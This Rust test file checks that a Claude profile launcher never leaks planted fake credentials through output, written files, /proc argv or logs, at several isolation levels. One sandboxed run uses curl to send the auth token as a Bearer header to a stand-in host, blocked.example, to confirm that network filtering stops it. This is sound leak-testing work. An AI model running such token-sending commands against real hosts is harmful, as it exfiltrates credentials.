//! The secrets sweep: known secret values are planted in the parent environment, in the
//! variables `token-env` and `key-env` name, and in the files `token-command` and
//! `key-command` read; then every command runs over every shipped profile and every
//! profile that uses them, at every level (show, explain, render in every form, dry runs, check,
//! list, doctor, shell-init, log, errors, real launches), and no output, no file clp
//! writes (state, config, runtime, `render --out`) and no process's argv in `/proc`
//! while a session runs may hold any of them.
//!
//! Positive control: each real launch proves the secret did reach the session (it
//! prints the secret's SHA-256, which the test compares), so the sweep is not clean
//! merely because the secrets went nowhere.

use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};
use std::time::{Duration, Instant};

use sha2::{Digest, Sha256};

use crate::common::{text, Guarded};
use crate::sandbox::{self, As};

/// Substrings that only the planted secrets contain.
const MARKERS: &[&str] = &["PARENTSECRET", "S3CR3T"];

const TOKEN_ENV: &str = "S3CR3T-token-from-env";
const KEY_ENV: &str = "sk-ant-api03-S3CR3T-key-from-env";
const TOKEN_CMD: &str = "S3CR3T-token-from-command";
const KEY_CMD: &str = "sk-ant-api03-S3CR3T-key-from-command";

/// The planted secrets found in `bytes`.
fn found(bytes: &[u8]) -> Vec<&'static str> {
    let text = String::from_utf8_lossy(bytes);
    MARKERS
        .iter()
        .copied()
        .filter(|m| text.contains(m))
        .collect()
}

#[track_caller]
fn assert_clean(what: &str, out: &Output) {
    let leaks: Vec<&str> = found(&out.stdout)
        .into_iter()
        .chain(found(&out.stderr))
        .collect();
    assert!(
        leaks.is_empty(),
        "{what}: a secret ({leaks:?}) in the output:\n{}\n{}",
        text(out).0,
        text(out).1
    );
}

/// Files under `root` (but `except`) holding a planted secret.
fn files_with_secrets(root: &Path, except: &Path) -> Vec<String> {
    let mut out = Vec::new();
    for entry in walkdir::WalkDir::new(root)
        .follow_links(false)
        .into_iter()
        .flatten()
    {
        let p = entry.path();
        if p.starts_with(except) || !entry.file_type().is_file() {
            continue;
        }
        // FIFOs and sockets are skipped above; a file may vanish while walking.
        if let Ok(bytes) = std::fs::read(p) {
            let leaks = found(&bytes);
            if !leaks.is_empty() {
                out.push(format!("{} ({leaks:?})", p.display()));
            }
        }
    }
    out
}

/// Every process's argv holding a planted secret (argv is world-readable in `/proc`).
fn argv_with_secrets() -> Vec<String> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        if let Ok(cmd) = std::fs::read(entry.path().join("cmdline")) {
            if !found(&cmd).is_empty() {
                out.push(String::from_utf8_lossy(&cmd).replace('\0', " "));
            }
        }
    }
    out
}

fn sha256(s: &str) -> String {
    format!("{:x}", Sha256::digest(s.as_bytes()))
}

#[test]
fn secrets_never_appear_in_any_output() {
    let Some(user) = sandbox::ready(As::Root) else {
        return;
    };
    let backend = clp_test_backend::Backend::start(clp_test_backend::Config::default()).unwrap();
    let mut b = sandbox::Box::new(As::Root, user.clone(), backend);
    // The parent's own credentials (the box adds GITHUB_TOKEN, AWS_SECRET_ACCESS_KEY and
    // ANTHROPIC_API_KEY, all `...PARENTSECRET`), and the variables the profiles name.
    for (k, v) in [
        ("ANTHROPIC_AUTH_TOKEN", "PARENTSECRET-auth-token"),
        ("CLAUDE_CODE_OAUTH_TOKEN", "PARENTSECRET-oauth"),
        ("SWEEP_TOKEN", TOKEN_ENV),
        ("SWEEP_KEY", KEY_ENV),
    ] {
        b.extra_env.push((k.into(), v.into()));
    }
    // The commands' sources live outside HOME, so that HOME holds no secret at first.
    let sources = b.dir.path().join("sources");
    std::fs::create_dir_all(&sources).unwrap();
    std::fs::write(sources.join("token"), format!("{TOKEN_CMD}\n")).unwrap();
    std::fs::write(sources.join("key"), format!("{KEY_CMD}\n")).unwrap();
    let src = |f: &str| sources.join(f).display().to_string();
    let base = format!(
        "extends = \"local-env\"\n[backend]\nurl = \"{}\"\n[workspace]\npath = \"~/project\"\n",
        b.url
    );
    let sweep = [
        (
            "sweep-tok-env",
            "[auth]\nmode = \"auth-token\"\ntoken-env = \"SWEEP_TOKEN\"\n".to_owned(),
            Some(TOKEN_ENV),
        ),
        (
            "sweep-tok-cmd",
            format!(
                "[auth]\nmode = \"auth-token\"\ntoken-command = \"cat {}\"\n",
                src("token")
            ),
            Some(TOKEN_CMD),
        ),
        (
            "sweep-key-env",
            "[auth]\nmode = \"api-key\"\nkey-env = \"SWEEP_KEY\"\n".to_owned(),
            Some(KEY_ENV),
        ),
        (
            "sweep-key-cmd",
            format!(
                "[auth]\nmode = \"api-key\"\nkey-command = \"cat {}\"\n",
                src("key")
            ),
            None,
        ),
    ];
    for (name, auth, _) in &sweep {
        b.profile(name, &format!("{base}{auth}"));
    }
    // Failing credential sources: the errors name them, never a value.
    b.profile(
        "sweep-unset",
        &format!("{base}[auth]\nmode = \"auth-token\"\ntoken-env = \"SWEEP_UNSET\"\n"),
    );
    b.profile(
        "sweep-failing",
        &format!(
            "{base}[auth]\nmode = \"auth-token\"\ntoken-command = \"cat {}; exit 3\"\n",
            src("token")
        ),
    );
    let shipped: Vec<&str> = clp_core::builtin::BUILTINS.iter().map(|b| b.0).collect();
    let out_dir = b.dir.path().join("rendered");
    let mut ran = 0;
    let run = |args: &[String]| -> Output {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        crate::inputs::within(b.clp(&args), Duration::from_secs(60))
    };

    // Every command that prints, on every profile, at every level.
    let names = shipped
        .iter()
        .map(|s| s.to_string())
        .chain(sweep.iter().map(|s| s.0.to_owned()))
        .chain(["sweep-unset".into(), "sweep-failing".into()]);
    for name in names {
        for level in ["env", "sandbox", "container"] {
            let set = |mut a: Vec<String>| {
                a.splice(0..0, ["--set".into(), format!("isolation.level={level}")]);
                a
            };
            let v = |a: &[&str]| set(a.iter().map(|s| s.to_string()).collect());
            let out = out_dir.join(format!("{name}-{level}"));
            let mut commands = vec![
                v(&["show", &name]),
                v(&["show", &name, "--json"]),
                v(&["explain", &name]),
                v(&["explain", &name, "--json"]),
                v(&["render", &name]),
                v(&["render", &name, "--format", "json"]),
                v(&["render", &name, "--portable"]),
                v(&["render", &name, "--out", &out.display().to_string()]),
                v(&["use", &name, "--dry-run", "--", "-p", "hi"]),
                v(&["run", &name, "--dry-run", "--", "env"]),
                v(&["check", &name]),
                v(&["image", &name]),
            ];
            if name.starts_with("sweep-") && level != "container" {
                commands.push(v(&["doctor", &name]));
            }
            for c in commands {
                let out = run(&c);
                assert_clean(&c.join(" "), &out);
                ran += 1;
            }
        }
    }
    for c in [
        vec!["list"],
        vec!["list", "--json"],
        vec!["check"],
        vec!["shell-init", "bash"],
        vec!["shell-init", "fish"],
    ] {
        let c: Vec<String> = c.into_iter().map(String::from).collect();
        assert_clean(&c.join(" "), &run(&c));
        ran += 1;
    }

    // Real launches at A and B (and C where Podman and the image are here): the secret
    // reaches the session (its hash comes back), and no argv on the machine holds it
    // while the session runs.
    let levels: Vec<&str> = if crate::container::ready(As::Root, crate::container::IMAGE).is_some()
    {
        vec!["env", "sandbox", "container"]
    } else {
        vec!["env", "sandbox"]
    };
    for level in &levels {
        for (name, _, secret) in &sweep {
            let mut args = vec![
                "--set".to_owned(),
                format!("isolation.level={level}"),
                "--set".into(),
                format!("container.image={}", crate::container::IMAGE),
                "run".into(),
                name.to_string(),
                "--no-check".into(),
                "--".into(),
                "sh".into(),
                "-c".into(),
                "printf %s \"$ANTHROPIC_AUTH_TOKEN\" | sha256sum; printf %s \"$ANTHROPIC_API_KEY\" | sha256sum; sleep 2".into(),
            ];
            if *level == "container" {
                args.splice(0..0, ["--set".into(), "claude.version==2.1.330".into()]);
            }
            let argv: Vec<&str> = args.iter().map(String::as_str).collect();
            let mut cmd = b.clp(&argv);
            cmd.stdout(Stdio::piped()).stderr(Stdio::piped());
            let child = Guarded::spawn(&mut cmd);
            let start = Instant::now();
            let mut seen = Vec::new();
            while start.elapsed() < Duration::from_millis(1500) {
                seen.extend(argv_with_secrets());
                std::thread::sleep(Duration::from_millis(50));
            }
            let out = child.wait_with_output();
            let what = format!("{level} run {name}");
            assert!(out.status.success(), "{what}: {}", text(&out).1);
            assert_clean(&what, &out);
            assert!(
                seen.is_empty(),
                "{what}: a secret in argv:\n{}",
                seen.join("\n")
            );
            if let Some(secret) = secret {
                assert!(
                    text(&out).0.contains(&sha256(secret)),
                    "{what}: the secret did not reach the session:\n{}",
                    text(&out).0
                );
            }
            ran += 1;
        }
    }
    // Errors of the credential sources, at launch.
    for name in ["sweep-unset", "sweep-failing"] {
        let c: Vec<String> = ["run", name, "--no-check", "--", "true"]
            .map(String::from)
            .into();
        let out = run(&c);
        assert_eq!(out.status.code(), Some(2), "{name}: {}", text(&out).1);
        assert_clean(name, &out);
    }
    // The network log of a filtered session whose request carries the token.
    let mut args: Vec<String> = [
        "--set",
        "isolation.level=sandbox",
        "--set",
        "network.mode=allowlist",
        "run",
        "sweep-tok-env",
        "--no-check",
        "--",
        "sh",
        "-c",
    ]
    .map(String::from)
    .into();
    args.push(
        "curl -s -m 5 -H \"Authorization: Bearer $ANTHROPIC_AUTH_TOKEN\" \
         http://blocked.example/ >/dev/null; true"
            .into(),
    );
    assert_clean("filtered run", &run(&args));
    for name in sweep.iter().map(|s| s.0) {
        let c: Vec<String> = ["log", name, "--all", "--json"].map(String::from).into();
        assert_clean(&format!("log {name}"), &run(&c));
    }

    // Every file clp wrote: the box's HOME (state, config), the rendered files, and the
    // profiles' runtime dirs; only the commands' own sources may hold a secret.
    let mut leaks = files_with_secrets(b.dir.path(), &sources);
    let runtime = PathBuf::from(if nix::unistd::getuid().is_root() {
        "/run/clp".to_owned()
    } else {
        format!("/run/user/{}/clp", nix::unistd::getuid())
    });
    for (name, _, _) in &sweep {
        leaks.extend(files_with_secrets(&runtime.join(name), &sources));
    }
    assert!(leaks.is_empty(), "secrets in files:\n{}", leaks.join("\n"));
    assert!(ran > 300, "only {ran} commands ran");
}
